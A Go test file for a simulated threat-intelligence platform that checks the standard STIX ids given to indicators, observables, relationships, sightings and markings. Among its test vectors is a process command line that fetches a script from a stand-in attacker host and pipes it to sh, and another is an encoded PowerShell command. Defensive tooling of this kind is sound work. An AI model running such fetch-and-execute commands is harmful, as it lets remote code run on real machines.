package octisim

import (
	"strings"
	"testing"

	"github.com/harfangsync/harfangsync/sources/simhttp/simtest"
)

// idVectors say which standard id the platform gives to an object with the members, whatever id it
// was pushed under (contract opencti-api 10.2). The version is the newest when empty; the type is that
// of the id.
var idVectors = []struct{ claim, version, members, id string }{
	{"organization, plain", "", `"name": "Example Corp", "identity_class": "organization"`, "identity--69f1df30-eb2f-5845-88e0-64e2d05ab72e"},
	{"organization, mixed case and outer blanks fold to the same id", "", `"name": "  EXAMPLE corp ", "identity_class": "Organization"`, "identity--69f1df30-eb2f-5845-88e0-64e2d05ab72e"},
	{"organization, inner double blank is kept", "", `"name": "Example  Corp", "identity_class": "organization"`, "identity--a4578b58-ae6a-5c9d-8093-5095f41f1233"},
	{"organization, non-ASCII", "", `"name": "Société Générale d’Étude", "identity_class": "organization"`, "identity--61bf3d8f-7799-5be2-b38a-2ae37921bbb4"},
	{"system", "", `"name": "srv-db-01.corp.example", "identity_class": "system"`, "identity--81f298e7-4bb5-5459-8451-8bca41e52c14"},
	{"system, upper case", "", `"name": "SRV-DB-01", "identity_class": "system"`, "identity--973d5cbe-8806-51a0-a400-6de2e49edcf2"},
	{"system with address as name", "", `"name": "192.0.2.10", "identity_class": "system"`, "identity--6ef65dca-172c-5534-b888-1dca194142a7"},
	{"individual", "", `"name": "Jane Analyst", "identity_class": "individual"`, "identity--2a4dc411-e3a1-5729-92a3-5582340ac33d"},
	{"a sector has the class \"class\"", "", `"name": "Energy", "identity_class": "class"`, "identity--166544e2-ba1f-5a6c-89cf-a63d0c01e91c"},
	{"security platform", "", `"name": "Example EDR", "identity_class": "securityplatform"`, "identity--4f56eadc-ee9c-550b-849f-f0a7f72a1478"},
	{"stix ipv4", "", `"pattern": "[ipv4-addr:value = '198.51.100.7']", "pattern_type": "stix"`, "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968"},
	{"stix domain", "", `"pattern": "[domain-name:value = 'evil.example']", "pattern_type": "stix"`, "indicator--4085ccb3-051d-5f93-9a2e-e75dfe732425"},
	{"a pattern with a quoted name", "", `"pattern": "[file:hashes.'SHA-256' = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']", "pattern_type": "stix"`, "indicator--8d30e978-c6dd-5439-9ed0-bd61238915c3"},
	{"a pattern with a bare name", "", `"pattern": "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']", "pattern_type": "stix"`, "indicator--4a911d51-a048-5f79-9383-03169f10a76b"},
	{"a pattern with what HTML escapes", "", `"pattern": "[url:value = 'http://evil.example/a b?x=1&y=<2>']", "pattern_type": "stix"`, "indicator--29edd621-2bd7-5087-b129-8c3456263331"},
	{"a Sigma rule, trimmed", "", `"pattern": "title: Test rule\nlogsource:\n  product: windows\ndetection:\n  sel:\n    Image|endswith: \"\\\\evil.exe\"\n  condition: sel\n", "pattern_type": "sigma"`, "indicator--3d7f5a59-02aa-543c-a97f-449d8298eff0"},
	{"a Sigma rule, trimmed, earlier", "7.260415.0", `"pattern": "title: Test rule\nlogsource:\n  product: windows\ndetection:\n  sel:\n    Image|endswith: \"\\\\evil.exe\"\n  condition: sel\n", "pattern_type": "sigma"`, "indicator--13818757-0f52-5d46-aa40-4ae5e77ab60a"},
	{"yara", "", `"pattern": "rule r1 { strings: $a = \"abc\" condition: $a }", "pattern_type": "yara"`, "indicator--b287e305-73c7-5bd4-84ad-f20d67824fb7"},
	{"as it is", "", `"name": "Alert 4711: beaconing", "created": "2026-03-01T10:00:00.000Z"`, "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"},
	{"seconds precision is widened to milliseconds", "", `"name": "Alert 4711: beaconing", "created": "2026-03-01T10:00:00Z"`, "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"},
	{"microseconds are cut", "", `"name": "Alert 4711: beaconing", "created": "2026-03-01T10:00:00.000999Z"`, "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"},
	{"offset is converted to UTC", "", `"name": "Alert 4711: beaconing", "created": "2026-03-01T12:00:00+02:00"`, "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"},
	{"other time, other id", "", `"name": "Alert 4711: beaconing", "created": "2026-03-01T10:00:00.001Z"`, "incident--f9ea6adf-ac3c-572e-b946-661b29cc8f81"},
	{"name folds", "", `"name": " ALERT 4711: Beaconing", "created": "2026-03-01T10:00:00.000Z"`, "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"},
	{"as it is", "", `"name": "Case 99 – phishing wave", "created": "2026-03-02T08:30:15.250Z"`, "case-incident--5a1c766f-0734-5129-ad64-1199e7d7e487"},
	{"offset", "", `"name": "Case 99 – phishing wave", "created": "2026-03-02T09:30:15.25+01:00"`, "case-incident--5a1c766f-0734-5129-ad64-1199e7d7e487"},
	{"upper case", "", `"name": "CASE 100", "created": "2026-03-02T08:30:15Z"`, "case-incident--795840e3-3482-5462-8dff-5980204f3c82"},
	{"content and created", "", `"content": "Analyst comment", "created": "2026-03-02T09:00:00.000Z", "object_refs": ["` + alertID + `"]`, "note--7f65a6f1-b6c1-5fec-a53f-dccca351bf34"},
	{"content, created and abstract", "", `"content": "Analyst comment", "created": "2026-03-02T09:00:00.000Z", "abstract": "Triage", "object_refs": ["` + alertID + `"]`, "note--5debf649-153a-5eee-8fe8-0839948985ff"},
	{"content, created and abstract, earlier", "7.260415.0", `"content": "Analyst comment", "created": "2026-03-02T09:00:00.000Z", "abstract": "Triage", "object_refs": ["` + alertID + `"]`, "note--7f65a6f1-b6c1-5fec-a53f-dccca351bf34"},
	{"content is trimmed, case is kept", "", `"content": "\n  Analyst Comment \n", "created": "2026-03-02T09:00:00.000Z", "object_refs": ["` + alertID + `"]`, "note--d1d194d1-fe07-5584-90b8-aa075c7cba3a"},
	{"blank abstract is ignored", "", `"content": "Analyst comment", "created": "2026-03-02T09:00:00.000Z", "abstract": "   ", "object_refs": ["` + alertID + `"]`, "note--7f65a6f1-b6c1-5fec-a53f-dccca351bf34"},
	{"multi-line markdown with quotes", "", `"content": "## Findings\n- \"quoted\"\t<tag>\n- back\\slash", "created": "2026-03-02T09:00:00.000Z", "object_refs": ["` + alertID + `"]`, "note--440d960e-a14b-5d06-b04e-44ab14148193"},
	{"technique id wins over name", "", `"name": "Command and Scripting Interpreter", "x_mitre_id": "T1059"`, "attack-pattern--2564d78f-c102-5432-99eb-c6bb50177e94"},
	{"technique id wins over name, earlier", "7.260528.0", `"name": "Command and Scripting Interpreter", "x_mitre_id": "T1059"`, "attack-pattern--bab942ff-7c9c-5062-9e92-3392bfb2fd74"},
	{"sub-technique", "", `"name": "PowerShell", "x_mitre_id": "T1059.001"`, "attack-pattern--b4d20430-6a7e-59fd-b2e4-8d3f6be56a6a"},
	{"sub-technique, earlier", "7.260528.0", `"name": "PowerShell", "x_mitre_id": "T1059.001"`, "attack-pattern--5a9d0c10-3eab-5b54-9d30-d9ae590d238b"},
	{"lower case technique id, same id as upper case", "", `"x_mitre_id": "t1059.001", "name": "PowerShell"`, "attack-pattern--b4d20430-6a7e-59fd-b2e4-8d3f6be56a6a"},
	{"no technique id: name", "", `"name": "Spearphishing Attachment "`, "attack-pattern--70166673-00f0-5946-a641-b0b502ea6f5b"},
	{"blank technique id: name", "", `"name": "spearphishing attachment", "x_mitre_id": "  "`, "attack-pattern--70166673-00f0-5946-a641-b0b502ea6f5b"},
	{"sha-256 only", "", `"hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`, "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c"},
	{"md5 wins over the others", "", `"hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "SHA-1": "da39a3ee5e6b4b0d3255bfef95601890afd80709", "MD5": "d41d8cd98f00b204e9800998ecf8427e"}`, "file--02fff920-f614-527c-81d1-6353633a6d21"},
	{"sha-1 wins over sha-256", "", `"hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "SHA-1": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}`, "file--fa6e66a5-f019-51f9-8ab5-812023e58c6e"},
	{"a name beside a hash does not count", "", `"hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}, "name": "payload.exe"`, "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c"},
	{"name only", "", `"name": "payload.exe"`, "file--551d9698-9e57-547a-bd63-1f46262137c5"},
	{"name is case-sensitive", "", `"name": "PAYLOAD.EXE"`, "file--cabd0403-1046-5244-adaa-9159f3338eb7"},
	{"the case of a hash counts", "", `"hashes": {"MD5": "D41D8CD98F00B204E9800998ECF8427E"}`, "file--79550d64-5d35-5d67-a5b3-15c33063bdf3"},
	{"algorithm name is upper-cased", "", `"hashes": {"md5": "d41d8cd98f00b204e9800998ecf8427e"}`, "file--02fff920-f614-527c-81d1-6353633a6d21"},
	{"sha-256", "", `"hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`, "artifact--22f8ff52-8f62-5f03-a53a-6f50f54fd74c"},
	{"md5 wins", "", `"hashes": {"MD5": "d41d8cd98f00b204e9800998ecf8427e", "SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`, "artifact--02fff920-f614-527c-81d1-6353633a6d21"},
	{"url when no hash", "", `"url": "http://evil.example/p.bin"`, "artifact--6cf254ac-3c3e-5c81-9de3-395b969a58ca"},
	{"as it is", "", `"value": "evil.example"`, "domain-name--69228563-c8d2-54ae-aeca-5f4134cb59aa"},
	{"case folds", "", `"value": "EVIL.Example"`, "domain-name--69228563-c8d2-54ae-aeca-5f4134cb59aa"},
	{"sub-domain", "", `"value": "c2.evil.example"`, "domain-name--490ac41b-41c8-5c9c-bb47-f2ece64875bc"},
	{"punycode kept as is", "", `"value": "xn--bcher-kva.example"`, "domain-name--2756bcd2-4f67-5280-b058-56605b46834f"},
	{"as it is", "", `"value": "198.51.100.7"`, "ipv4-addr--12592121-be4c-5a93-a813-5a5af16e50db"},
	{"cidr", "", `"value": "198.51.100.0/24"`, "ipv4-addr--1ea47840-aa39-5aa8-b4a2-cd203eb6662a"},
	{"other", "", `"value": "203.0.113.255"`, "ipv4-addr--d8c27499-38ea-58a9-8ee5-57a9212d0422"},
	{"compressed", "", `"value": "2001:db8::1"`, "ipv6-addr--6469e3a9-b053-5e34-a025-9396ae051d26"},
	{"addresses are not normalised", "", `"value": "2001:0db8:0:0:0:0:0:1"`, "ipv6-addr--e0b16170-0277-5e5a-992a-b01f960b53cc"},
	{"cidr", "", `"value": "2001:db8::/32"`, "ipv6-addr--8da31feb-e0f9-54c3-ab30-bd8ccea361dd"},
	{"as it is", "", `"value": "http://evil.example/path"`, "url--db114699-49d3-52ca-bf14-fb40706373a4"},
	{"query and special characters", "", `"value": "https://evil.example/?a=1&b=<x>&c=é"`, "url--52ec6f8d-1219-536b-a109-24d12c83dbbc"},
	{"case is kept", "", `"value": "HTTP://EVIL.example/Path"`, "url--b7fbaeae-7f85-5adc-b48a-f0aadff89606"},
	{"as it is", "", `"value": "srv-db-01"`, "hostname--0566b90c-078a-55b2-b79b-17f8000d5b42"},
	{"fqdn", "", `"value": "srv-db-01.corp.example"`, "hostname--a2cb98a0-ca16-5018-b18a-b91aba8c8de1"},
	{"case is kept", "", `"value": "SRV-DB-01"`, "hostname--95b09471-cfab-5f9b-87f1-278533d0f890"},
	{"login only", "", `"account_login": "jdoe"`, "user-account--bc11eaab-cfd6-5ad8-bf02-2386bf690e12"},
	{"login and type", "", `"account_login": "CORP\\jdoe", "account_type": "windows-domain"`, "user-account--e44b731b-467d-57ea-9e27-3a40509d28f2"},
	{"user id, login and type", "", `"user_id": "S-1-5-21-1-2-3-1105", "account_login": "jdoe", "account_type": "windows-domain"`, "user-account--9e089b0f-ebdf-53c3-9bc7-78a24e94daa7"},
	{"display_name does not contribute", "", `"user_id": "1001", "display_name": "Jane"`, "user-account--6c60cab0-c5a6-54cf-be81-94eff8deeb9e"},
	{"windows", "", `"path": "C:\\Windows\\Temp"`, "directory--65bf9886-c2fc-5ab1-b872-66a740617647"},
	{"unix", "", `"path": "/var/tmp"`, "directory--4bc10abe-bfef-519f-b868-3c43b01a09ff"},
	{"trailing separator kept", "", `"path": "/var/tmp/"`, "directory--a4a7639a-0aa3-589e-99ec-b319608f09e1"},
	{"command line", "", `"command_line": "powershell.exe -nop -enc SQBFAFgA"`, "process--9ccfdb9b-8ce1-5cce-aefe-42b46bddaf55"},
	{"command line and pid", "", `"command_line": "/usr/bin/curl -s http://evil.example/x | sh", "pid": 4242`, "process--6ccfa591-c769-54f4-8a5a-927d3ef1fd72"},
	{"quotes and backslashes", "", `"command_line": "\"C:\\Program Files\\x\\y.exe\" /c \"a&b\""`, "process--b8e25fb5-8016-5e2a-9e39-1075d8fd0e52"},
	{"hklm", "", `"key": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"`, "windows-registry-key--daab0734-10e5-52d3-987f-41a032ae4509"},
	{"hkcu", "", `"key": "HKEY_CURRENT_USER\\Software\\Evil"`, "windows-registry-key--c49268d3-a1c9-5ffb-81ab-fa7b75b57d4d"},
	{"values do not contribute on import", "", `"key": "HKEY_CURRENT_USER\\Software\\Evil", "values": [{"name": "a", "data": "b", "data_type": "REG_SZ"}]`, "windows-registry-key--c49268d3-a1c9-5ffb-81ab-fa7b75b57d4d"},
	{"as it is", "", `"name": "Global\\evil"`, "mutex--c6896675-cf9f-59e9-855b-f33ff9a092ef"},
	{"case kept", "", `"name": "GLOBAL\\EVIL"`, "mutex--51c37b1d-8d40-56b6-9421-9f2c450c006c"},
	{"guid", "", `"name": "{5E1B1A4E-0000-4000-8000-000000000000}"`, "mutex--cbc101b3-6ed2-5a1c-9f47-6f5c2a0008bd"},
	{"as it is", "", `"value": "a@evil.example"`, "email-addr--a445a72b-98c7-54c6-bd01-0971c2333fd7"},
	{"case folds", "", `"value": "A@Evil.Example"`, "email-addr--a445a72b-98c7-54c6-bd01-0971c2333fd7"},
	{"plus", "", `"value": "a+b@evil.example"`, "email-addr--188aac6b-45c0-534a-b751-3edf05de6fab"},
	{"colon", "", `"value": "00:00:5e:00:53:01"`, "mac-addr--1879fe86-3131-5b80-b6b1-4505b9a193d9"},
	{"upper case kept", "", `"value": "00:00:5E:00:53:01"`, "mac-addr--593118d3-f9cd-5a72-babc-4128b379d15e"},
	{"dash", "", `"value": "00-00-5e-00-53-01"`, "mac-addr--b9dee8ff-f66f-5c26-a36a-dc1ee984c136"},
	{"small", "", `"number": 64500`, "autonomous-system--0a5f7072-df00-5729-9f0a-4eb18631a446"},
	{"big", "", `"number": 4200000000`, "autonomous-system--0441cc9c-6dda-5b51-b195-a5b35e95a208"},
	{"one", "", `"number": 1`, "autonomous-system--bee4098a-6a90-538e-86fd-aa7c31bfa49c"},
	{"name only", "", `"name": "Apache"`, "software--a688be93-1fd2-5e43-9444-8f6ddd57551c"},
	{"name only, earlier", "7.260421.0", `"name": "Apache"`, "software--e2318000-47e4-5cc0-8eab-244e7d0096e8"},
	{"name, vendor, version", "", `"name": "nginx", "vendor": "F5", "version": "1.25.3"`, "software--09161f6e-a9c3-5b70-8af3-d17106e70599"},
	{"name and cpe", "", `"name": "OpenSSL", "cpe": "cpe:/a:openssl:openssl:3.0.0"`, "software--1d20d45b-245a-5393-9a56-8a0d4a5d95a4"},
	{"name and cpe, earlier", "7.260421.0", `"name": "OpenSSL", "cpe": "cpe:/a:openssl:openssl:3.0.0"`, "software--53cfcc90-1928-5994-aa40-956d96aec930"},
	{"as it is", "", `"value": "hello"`, "text--ab47a513-9e45-53e4-b019-e1b8341ae098"},
	{"trimmed", "", `"value": " hello "`, "text--ab47a513-9e45-53e4-b019-e1b8341ae098"},
	{"unicode", "", `"value": "日本語 😀"`, "text--33ebb3be-f70a-5f26-a5ec-827f2e890287"},
	{"as it is", "", `"value": "curl/8.0"`, "user-agent--20e10f33-c573-5326-ada6-42605ab467c2"},
	{"browser", "", `"value": "Mozilla/5.0 (X11; Linux x86_64)"`, "user-agent--57e77efb-8e1f-5aa2-9c16-e35fa9af2dd4"},
	{"other", "", `"value": "python-requests/2.31"`, "user-agent--11b31a01-a1ab-59bc-a93a-0bc7c2fea638"},
	{"TLP:CLEAR fixed id", "", `"definition_type": "TLP", "name": "TLP:CLEAR"`, "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"},
	{"TLP:WHITE shares it", "", `"definition_type": "TLP", "name": "TLP:WHITE"`, "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"},
	{"TLP:GREEN", "", `"definition_type": "TLP", "name": "TLP:GREEN"`, "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"},
	{"TLP:AMBER", "", `"definition_type": "TLP", "name": "TLP:AMBER"`, "marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"},
	{"TLP:AMBER+STRICT", "", `"definition_type": "TLP", "name": "TLP:AMBER+STRICT"`, "marking-definition--826578e1-40ad-459f-bc73-ede076f81f37"},
	{"TLP:RED", "", `"definition_type": "TLP", "name": "TLP:RED"`, "marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"},
	{"PAP:CLEAR", "", `"definition_type": "PAP", "name": "PAP:CLEAR"`, "marking-definition--4cdff7eb-acb8-543f-8573-829eb9fe8b34"},
	{"PAP:GREEN", "", `"definition_type": "PAP", "name": "PAP:GREEN"`, "marking-definition--89484dde-e3d2-547f-a6c6-d14824429eb1"},
	{"PAP:AMBER", "", `"definition_type": "PAP", "name": "PAP:AMBER"`, "marking-definition--a6f20d4d-0360-59b6-ba22-3b48707828b1"},
	{"PAP:RED", "", `"definition_type": "PAP", "name": "PAP:RED"`, "marking-definition--4e4e3b84-de45-53df-9d9b-b21207699fd8"},
	{"statement, upper-cased by the platform", "", `"definition_type": "statement", "name": "Copyright Example"`, "marking-definition--5c33084f-89bd-57a9-ae88-3bf98b6cf502"},
}

func TestStandardIDsAreThePlatformsOwn(t *testing.T) {
	for _, tt := range idVectors {
		stix, _, _ := strings.Cut(tt.id, "--")
		t.Run(stix+", "+tt.claim, func(t *testing.T) {
			version := tt.version
			if version == "" {
				version = newest
			}
			s := registered(t, Options{Version: version})
			sent := fresh(stix)
			wants(t, pushed(t, s, alert, `{"type": "`+stix+`", "id": "`+sent+`", `+tt.members+`}`), "")
			simtest.Is(t, "standard id", any(tt.id), held(t, s, sent, `... on BasicObject { standard_id }`)["standard_id"])
		})
	}
}

func TestStandardIDsOfRelations(t *testing.T) {
	const (
		address = `{"type": "indicator", "id": "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968", "pattern": "[ipv4-addr:value = '198.51.100.7']", "pattern_type": "stix"}`
		ip      = `{"type": "ipv4-addr", "id": "ipv4-addr--12592121-be4c-5a93-a813-5a5af16e50db", "value": "198.51.100.7"}`
		shell   = `{"type": "attack-pattern", "id": "attack-pattern--b4d20430-6a7e-59fd-b2e4-8d3f6be56a6a", "name": "PowerShell", "x_mitre_id": "t1059.001"}`
		file    = `{"type": "file", "id": "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c", "hashes": {"SHA-256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}`
		name    = `{"type": "hostname", "id": "hostname--0566b90c-078a-55b2-b79b-17f8000d5b42", "value": "srv-db-01"}`
		upper   = `{"type": "identity", "id": "identity--973d5cbe-8806-51a0-a400-6de2e49edcf2", "name": "SRV-DB-01", "identity_class": "system"}`
	)
	tests := []struct{ name, members, want string }{
		{"indicator based on observable", `"relationship_type": "based-on", "source_ref": "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968", "target_ref": "ipv4-addr--12592121-be4c-5a93-a813-5a5af16e50db"`, "relationship--57651e36-70cc-5200-85dd-498e3f90e96c"},
		{"indicator indicates incident", `"relationship_type": "indicates", "source_ref": "indicator--4085ccb3-051d-5f93-9a2e-e75dfe732425", "target_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"`, "relationship--56f92db6-b4e5-574e-976c-54a77e8d8ab2"},
		{"incident uses technique", `"relationship_type": "uses", "source_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd", "target_ref": "attack-pattern--b4d20430-6a7e-59fd-b2e4-8d3f6be56a6a"`, "relationship--5243e47f-4a01-5602-8762-a051d7eb9904"},
		{"observable related to incident", `"relationship_type": "related-to", "source_ref": "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c", "target_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd"`, "relationship--64e01275-c844-5a25-a1c8-60587a7addb4"},
		{"incident targets system", `"relationship_type": "targets", "source_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd", "target_ref": "identity--81f298e7-4bb5-5459-8451-8bca41e52c14"`, "relationship--17f0b045-864c-538d-9bbb-17bae1e54f50"},
		{"a start", `"relationship_type": "related-to", "source_ref": "hostname--0566b90c-078a-55b2-b79b-17f8000d5b42", "target_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd", "start_time": "2026-03-01T10:00:00Z"`, "relationship--821d3843-6c75-56ec-bd09-9746a9bf2d39"},
		{"a start and a stop", `"relationship_type": "related-to", "source_ref": "hostname--0566b90c-078a-55b2-b79b-17f8000d5b42", "target_ref": "incident--0dd27c59-e170-57ee-8f53-fadc094093bd", "start_time": "2026-03-01T10:00:00Z", "stop_time": "2026-03-01T11:00:00.5Z"`, "relationship--fdbb8b5a-2e93-503f-b724-c8316f296052"},
		{"a sighting without dates", `"sighting_of_ref": "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968", "where_sighted_refs": ["identity--69f1df30-eb2f-5845-88e0-64e2d05ab72e"]`, "sighting--d672d126-1884-549a-a4fe-ee0cf2f8f3a5"},
		{"a sighting with a first date", `"sighting_of_ref": "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968", "where_sighted_refs": ["identity--69f1df30-eb2f-5845-88e0-64e2d05ab72e"], "first_seen": "2026-03-01T10:00:00Z"`, "sighting--1bd47295-9006-5551-b716-cc0ba73e6e22"},
		{"a sighting with both", `"sighting_of_ref": "indicator--3ae0b0a2-7289-5fda-8a85-02d057ba0968", "where_sighted_refs": ["identity--81f298e7-4bb5-5459-8451-8bca41e52c14"], "first_seen": "2026-03-01T10:00:00Z", "last_seen": "2026-03-01T10:05:00Z"`, "sighting--21b6e883-0818-5df7-8560-8f94e5f26cf8"},
		{"a sighting of a file, to the millisecond", `"sighting_of_ref": "file--22f8ff52-8f62-5f03-a53a-6f50f54fd74c", "where_sighted_refs": ["identity--973d5cbe-8806-51a0-a400-6de2e49edcf2"], "first_seen": "2026-03-01T10:00:00.123Z", "last_seen": "2026-03-01T10:05:00.456Z"`, "sighting--6d9d9d5e-ec04-5c83-98f0-60716ee79536"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stix, _, _ := strings.Cut(tt.want, "--")
			for version, same := range map[string]bool{newest: true, "6.4.0": true, "6.3.9": false} {
				s := registered(t, Options{Version: version})
				wants(t, errorsOf(s, address, domain, ip, shell, file, name, upper, corp, hostUnit, alert), "")
				sent := fresh(stix)
				wants(t, errorsOf(s, `{"type": "`+stix+`", "id": "`+sent+`", `+tt.members+`}`), "")
				if got := held(t, s, sent, `... on BasicRelationship { standard_id }`)["standard_id"]; (got == tt.want) != same {
					t.Errorf("version %s: standard id %v, vector %s", version, got, tt.want)
				}
			}
		})
	}
}

func TestStandardIDsOfWhatObjectsCarry(t *testing.T) {
	tests := []struct{ name, members, field, want string }{
		{"label", `"labels": ["phishing"]`, `objectLabel { standard_id }`, "label--64027af7-ee46-5b0c-93a3-96f98e17f1b7"},
		{"label, folded", `"labels": [" Phishing "]`, `objectLabel { standard_id }`, "label--64027af7-ee46-5b0c-93a3-96f98e17f1b7"},
		{"label with a colon", `"labels": ["soc:confirmed"]`, `objectLabel { standard_id }`, "label--becbea0c-b324-5639-82ec-0034435e28f8"},
		{"reference by URL", `"external_references": [{"url": "https://siem.example/alerts/4711", "source_name": "SIEM", "external_id": "4711"}]`, `externalReferences { edges { node { standard_id } } }`, "external-reference--47d50103-28a1-59fa-b648-eb09a0af6dcc"},
		{"reference by source and id", `"external_references": [{"source_name": "SIEM", "external_id": "4711"}]`, `externalReferences { edges { node { standard_id } } }`, "external-reference--bf10553d-6aa6-5139-9592-5275206adb82"},
		{"phase of a kill chain", `"kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "execution"}]`, `killChainPhases { standard_id }`, "kill-chain-phase--59a25637-983b-58e3-9b65-c46debf88307"},
		{"phases keep their case", `"kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "Execution"}]`, `killChainPhases { standard_id }`, "kill-chain-phase--46fd4416-3add-544e-897d-036405da2f73"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := registered(t, Options{})
			wants(t, errorsOf(s, plus(domain, tt.members)), "")
			if got := compact(t, held(t, s, domainID, `... on Indicator { `+tt.field+` }`)); !strings.Contains(got, tt.want) {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}
